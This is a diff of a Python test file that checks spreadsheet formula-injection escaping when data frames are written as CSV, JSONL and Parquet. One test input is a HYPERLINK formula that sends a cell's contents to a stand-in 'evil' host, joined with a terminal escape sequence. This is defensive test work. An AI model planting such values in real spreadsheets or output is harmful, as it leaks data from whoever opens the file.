@@ -10,6 +10,7 @@ import pytest
 
 from resources.common.text import visible
 from synpo_assets.cli.rows import WRITERS
+from synpo_assets.publishing.review import cell
 from tests.conftest import synpo_here
 from tests.nano import write_settings
 from tests.stand_ins import services_in
@@ -122,6 +123,7 @@ def test_no_file_of_a_home_is_written_by_name(home, tmp_path, place, more, is_li
 def test_a_spreadsheet_takes_no_text_for_a_formula_and_other_files_hold_it_exactly(tmp_path):
     text = '=HYPERLINK("http://evil/?"&A1)\x1b]0;x\x07'
     frame, file = pl.DataFrame({"text": [text, "a = b"], "number": [1, 2]}), tmp_path / "rows"
+    assert [cell(each) for each in ("-2+3", "- pears", "a-b")] == ["'-2+3", "- pears", "a-b"]
     for suffix, found in ((".csv", "'" + visible(text)), (".jsonl", text), (".parquet", text)):
         with file.open("wb") as opened:
             WRITERS[suffix](frame, opened)
